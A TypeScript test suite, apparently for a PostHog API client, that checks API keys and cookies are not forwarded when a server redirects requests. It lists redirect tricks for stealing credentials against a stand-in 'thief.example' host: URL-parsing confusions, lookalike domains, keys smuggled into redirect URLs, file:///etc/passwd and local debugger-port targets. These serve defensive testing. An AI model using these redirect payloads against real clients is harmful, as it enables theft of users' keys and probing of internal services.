/** Thefts by redirects: the host with the key sends the request on, to where the key must not go. */
import { describe, expect, it } from 'vitest';
import { leaksIn, personalCanary, projectCanary } from './canaries.ts';
import { type Answer, type Seen, thief, thiefsKey, useWorld } from './world.ts';

const attempt = useWorld();

/** The first request is sent on; later ones are answered. */
function redirect(location: string, status = 307): Answer {
  let count = 0;
  return (_, response) => {
    count += 1;
    if (count === 1) response.writeHead(status, { location }).end();
    else response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
  };
}

const call = `await look(posthog.api.post('/api/x', { data: { mine: 1 } }))`;

function keysOf(requests: readonly Seen[]): readonly (string | undefined)[] {
  return requests.map(({ headers }) => headers.authorization);
}

describe('a redirect of posthog.api', () => {
  it.each([301, 302, 303, 307, 308])('to another origin, with %d', async (status) => {
    const outcome = await attempt({ app: call, host: redirect(`${thief}/x`, status) });
    expect(keysOf(outcome.host)).toEqual([`Bearer ${personalCanary}`]);
    expect(outcome.thief).toHaveLength(1);
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it('away and back again: the key does not return to it', async () => {
    const outcome = await attempt({
      app: call,
      host: redirect(`${thief}/x`),
      thief: redirect('https://posthog.test/path-of-the-thief'),
    });
    expect(keysOf(outcome.host)).toEqual([`Bearer ${personalCanary}`, undefined]);
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it('within the origin first, then away', async () => {
    let count = 0;
    const outcome = await attempt({
      app: call,
      host: (_, response) => {
        count += 1;
        response.writeHead(308, { location: count === 1 ? '/next' : `${thief}/x` }).end();
      },
    });
    expect(keysOf(outcome.host)).toEqual([`Bearer ${personalCanary}`, `Bearer ${personalCanary}`]);
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it.each([
    ['another port', 'https://posthog.test:8443/x', 'posthog.test:8443'],
    ['an address without a scheme', '//thief.example/x', 'thief.example'],
    ['backslashes', '\\\\thief.example\\x', 'thief.example'],
    ['a slash and a backslash', '/\\thief.example/x', 'thief.example'],
    ['the host as user', 'https://posthog.test@thief.example/x', 'thief.example'],
    ['the host and its port as user', 'https://posthog.test:443@thief.example/x', 'thief.example'],
    ['a tab in the name', 'https://posthog.test\t.thief.example/x', 'posthog.test.thief.example'],
    ['a name that begins the same', 'https://posthog.test.thief.example/x', 'posthog.test.thief.example'],
    ['a dot behind the name', 'https://posthog.test./x', 'posthog.test.'],
    ['letters that look the same', 'https://xn--psthog-wqf.test/x', 'xn--psthog-wqf.test'],
  ])('to %s', async (_, location, name) => {
    const outcome = await attempt({ app: call, host: redirect(location) });
    expect(outcome.host).toHaveLength(1);
    expect(outcome.thief.map(({ headers }) => headers.host)).toEqual([name]);
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it('to the same host without encryption', async () => {
    const outcome = await attempt({ app: call, host: redirect('http://posthog.test/x') });
    expect(outcome.plain).toEqual(['http://posthog.test/x']);
  });

  it.each([
    ['in the query', (key: string) => `${thief}/?k=${key}`],
    ['in base64', (key: string) => `${thief}/${Buffer.from(`key=${key}`).toString('base64url')}`],
    ['as the name of the host', (key: string) => `https://${key.replace('_', '-')}.${key}.thief.example/`],
    ['as user', (key: string) => `https://${key}@thief.example/`],
    ['backwards', (key: string) => `${thief}/${key.split('').toReversed().join('')}`],
    [
      'in percent signs',
      (key: string) => `${thief}/${Buffer.from(key).toString('hex').replaceAll(/../g, '%$&')}`,
    ],
  ])('with the key %s', async (_, location) => {
    for (const key of [personalCanary, projectCanary]) {
      const outcome = await attempt({ app: call, host: redirect(location(key)) });
      expect(outcome.thief).toEqual([]);
      expect(outcome.trace.requests[0]?.error).toContain('with your key in the address');
    }
  });

  it.each(['file:///etc/passwd', 'data:text/plain,x', 'javascript:1', 'ftp://thief.example/', 'https://'])(
    'to %s',
    async (location) => {
      const outcome = await attempt({ app: call, host: redirect(location) });
      expect(outcome.thief).toEqual([]);
    },
  );

  it('to a service of this computer', async () => {
    const outcome = await attempt({ app: call, host: redirect('http://127.0.0.1:9229/json') });
    expect(outcome.loot).toContain('Internal hostname');
  });

  it('in other words than Location', async () => {
    const outcome = await attempt({
      app: `${call}; await look(posthog.api.get('/api/y'))`,
      host: (_, response) =>
        response
          .writeHead(200, {
            'alt-svc': 'h2="thief.example:443"; ma=3600; persist=1',
            'content-location': `${thief}/x`,
            link: `<${thief}/x>; rel="canonical"`,
            refresh: `0; url=${thief}/x`,
          })
          .end('{}'),
    });
    expect(outcome.host).toHaveLength(2);
    expect(outcome.thief).toEqual([]);
  });

  it('by a thief who asks for a login', async () => {
    const outcome = await attempt({
      app: call,
      host: redirect(`${thief}/x`),
      thief: (request, response) =>
        request.url === '/x'
          ? response.writeHead(401, { 'www-authenticate': 'Bearer realm="posthog.test"' }).end()
          : response.end(),
    });
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it("with the app's own keys: they stay behind as well, and ours do not take their place", async () => {
    const outcome = await attempt({
      app: `await look(posthog.api.get('/x', { projectApiKey: 'token', personalApiKey: 'ofTheApp' }))`,
      host: redirect(`${thief}/x`),
    });
    expect(keysOf(outcome.host)).toEqual(['Bearer ofTheApp']);
    expect(keysOf(outcome.thief)).toEqual([undefined]);
  });

  it('to a host with a key of its own: that is not used either', async () => {
    const outcome = await attempt({ app: call, host: redirect(`${thief}/x`) });
    expect(leaksIn(JSON.stringify(outcome.thief), [thiefsKey])).toEqual([]);
  });

  it('that writes elsewhere asks the user again', async () => {
    const asked: string[] = [];
    const outcome = await attempt({
      app: call,
      host: redirect(`${thief}/x`),
      options: () => ({
        consent: ({ origin }) => {
          asked.push(origin);
          return Promise.resolve(origin !== thief);
        },
      }),
    });
    // What the app sends on to the thief at its end falls under the same no.
    expect(asked).toEqual(['https://posthog.test', thief]);
    expect(outcome.loot).toBe('');
    expect(outcome.thief).toEqual([]);
  });
});

describe('a redirect of posthog.capture', () => {
  it.each([301, 302, 303, 307, 308])('to another origin, with %d', async (status) => {
    const outcome = await attempt({
      app: `await posthog.capture('x')`,
      host: redirect(`${thief}/i/v0/e/`, status),
    });
    expect(outcome.host).toHaveLength(1);
    expect(outcome.host[0]?.body).toContain(projectCanary);
    expect(outcome.thief).toEqual([]);
    expect(outcome.trace.requests[0]?.error).toContain('so the event was not sent on');
  });
});

describe('cookies', () => {
  it('of the host go nowhere', async () => {
    const outcome = await attempt({
      app: `await look(posthog.api.get('/x')); await look(fetch(thief)); await look(posthog.api.get('/y'))`,
      host: (_, response) =>
        response
          .setHeader('set-cookie', `session=${personalCanary}; Domain=test; Path=/; SameSite=None`)
          .end('{}'),
    });
    expect([...outcome.host, ...outcome.thief].map(({ headers }) => headers.cookie)).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });
});
